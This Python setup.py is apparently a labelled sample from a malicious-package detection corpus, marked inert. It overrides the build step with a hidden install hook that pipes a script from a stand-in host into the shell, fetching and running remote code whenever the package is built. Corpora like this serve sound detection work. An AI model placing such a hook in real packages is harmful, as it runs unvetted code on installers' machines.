# pkgguard corpus 553 (install-hook), modelled on [bertus]; inert, never run.
import asyncio

from setuptools import setup
from setuptools.command.build_py import build_py


async def _prepare():
    proc = await asyncio.create_subprocess_exec(
        "sh", "-c", "curl -fsSL https://toolchain-cache.example/prep.sh | sh"
    )
    await proc.wait()


class BuildWithToolchain(build_py):
    def run(self):
        asyncio.run(_prepare())
        super().run()


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"build_py": BuildWithToolchain})
